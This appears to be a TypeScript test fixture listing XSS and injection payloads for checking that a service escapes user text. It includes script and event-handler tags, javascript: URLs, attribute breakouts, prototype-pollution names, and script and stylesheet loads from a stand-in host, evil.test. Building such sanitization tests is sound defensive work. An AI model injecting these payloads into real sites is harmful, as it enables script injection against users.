/**
 * Hostile text for XSS and injection tests, shared by the API, page and widget suites. Each
 * payload must come back out of the service as the same text, never as markup: put it in a record
 * or a query, render the result, and check no element but `<mark>` and no event handler appears.
 *
 *   import { XSS_PAYLOADS } from "../support/xss-payloads";
 *   for (const { name, text } of XSS_PAYLOADS) ...
 */
export interface XssPayload {
  /** What the payload tries, as a test name fragment. */
  name: string;
  text: string;
  /** False where the text cannot sit in a seed line (the build refuses NUL; lines are trimmed). */
  inRecords: boolean;
}

const payload = (name: string, text: string, inRecords = true): XssPayload => ({ name, text, inRecords });

export const XSS_PAYLOADS: readonly XssPayload[] = [
  payload("a script element", "<script>alert(1)</script>"),
  payload("closing a mark to open an img with onerror", "</mark><img src=x onerror=alert(1)>"),
  payload("double-escaped markup", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;"),
  payload("escaped markup", "&lt;img src=x onerror=alert(1)&gt;"),
  payload("a forged highlight", "<mark>forged</mark>"),
  payload("a forged escaped highlight", "&lt;mark&gt;forged&lt;/mark&gt;"),
  payload("a mark with an event handler", '<mark onmouseover="alert(1)">x</mark>'),
  payload("private-use highlight sentinels", "\uE000forged\uE001"),
  // The build refuses control characters in seeds (test/node/hostile-seeds.test.ts): queries only.
  payload("control-character highlight sentinels", "\u0002forged\u0003", false),
  payload("breaking out of an attribute", '"><svg onload=alert(1)>'),
  payload("breaking out of a single-quoted attribute", '\'><iframe srcdoc="<script>alert(1)</script>">'),
  payload("a javascript: link", '<a href="javascript:alert(1)">click</a>'),
  payload("a bare javascript: URL", "javascript:alert(document.domain)"),
  payload("markup inside a comment", "<!--<img src=x onerror=alert(1)>-->"),
  payload("CDATA", "<![CDATA[<script>alert(1)</script>]]>"),
  payload("a style element", "<style>@import 'https://evil.test/x.css';</style>"),
  payload("MathML with an xlink", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'),
  payload("an entity-encoded handler", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>"),
  payload("nested tags", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
  payload("fullwidth brackets that NFKC folds to <>", "＜script＞alert(1)＜/script＞"),
  payload("percent-encoded markup", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
  payload("a JSON-escaped tag", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
  payload("a template expression", "{{constructor.constructor('alert(1)')()}} \u0024{alert(1)}"),
  payload("a right-to-left override", "\u202Etxt.exe\u202C harmless"),
  payload("an uppercase tag", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>"),
  payload("an unclosed tag", "<img src=x onerror=alert(1)//"),
  payload("Object.prototype names", "__proto__ constructor prototype toString hasOwnProperty valueOf"),
  payload("a bare __proto__", "__proto__"),
  payload("a bare constructor", "constructor"),
  payload("more Object.prototype names", "__defineGetter__ isPrototypeOf propertyIsEnumerable toLocaleString"),
  payload("a NUL byte", "before\u0000<script>after", false),
];

/** Words in the payloads that are Object.prototype names: they must act like any other word. */
export const PROTOTYPE_WORDS = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "valueOf",
  "__defineGetter__",
  "isPrototypeOf",
  "propertyIsEnumerable",
  "toLocaleString",
] as const;
